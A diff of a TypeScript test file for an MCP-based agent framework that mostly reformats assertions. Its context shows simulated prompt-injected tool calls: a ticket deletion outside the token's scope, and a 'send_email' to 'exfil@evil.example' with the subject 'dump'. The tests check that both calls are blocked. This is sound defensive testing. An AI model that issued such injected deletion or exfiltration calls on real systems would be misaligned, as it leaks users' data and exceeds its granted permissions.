@@ -33,10 +33,19 @@ test('createAgent over MCP (in memory): allowed calls run, one injected call is 
     { name: 'delete_ticket', args: { id: '7' }, id: 'c2' }, // injected: the token has no delete
     { name: 'update_ticket', args: { id: '7', status: 'triaged' }, id: 'c3' },
   ]);
-  assert.deepEqual(msgs.map((m) => m.status), ['success', 'error', 'success']);
+  assert.deepEqual(
+    msgs.map((m) => m.status),
+    ['success', 'error', 'success'],
+  );
   assert.match(String(msgs[1]!.content), /ERR_SCOPE_PERMISSION/);
-  assert.deepEqual(effects.map((e) => e.tool), ['read_ticket', 'update_ticket']);
-  assert.deepEqual(events.map((e) => e.code), ['OK', 'ERR_SCOPE_PERMISSION', 'OK']);
+  assert.deepEqual(
+    effects.map((e) => e.tool),
+    ['read_ticket', 'update_ticket'],
+  );
+  assert.deepEqual(
+    events.map((e) => e.code),
+    ['OK', 'ERR_SCOPE_PERMISSION', 'OK'],
+  );
   // Neither the token nor a proof reached the model's messages.
   for (const m of msgs) assert.ok(!String(m.content).includes('cft1.') && !String(m.content).includes('cfi1.'));
   await client.close();
@@ -53,7 +62,10 @@ test('createAgent over Streamable HTTP on 127.0.0.1 with the adapters', async ()
       { name: 'send_email', args: { to: 'exfil@evil.example', subject: 'dump' }, id: 'c1' }, // injected: outside the token's constraint
       { name: 'send_email', args: { to: 'bob@acme.example', subject: 'update' }, id: 'c2' },
     ]);
-    assert.deepEqual(msgs.map((m) => m.status), ['error', 'success']);
+    assert.deepEqual(
+      msgs.map((m) => m.status),
+      ['error', 'success'],
+    );
     assert.match(String(msgs[0]!.content), /ERR_CONSTRAINT/);
     assert.deepEqual(effects, [{ tool: 'send_email', args: { to: 'bob@acme.example', subject: 'update' } }]);
   } finally {
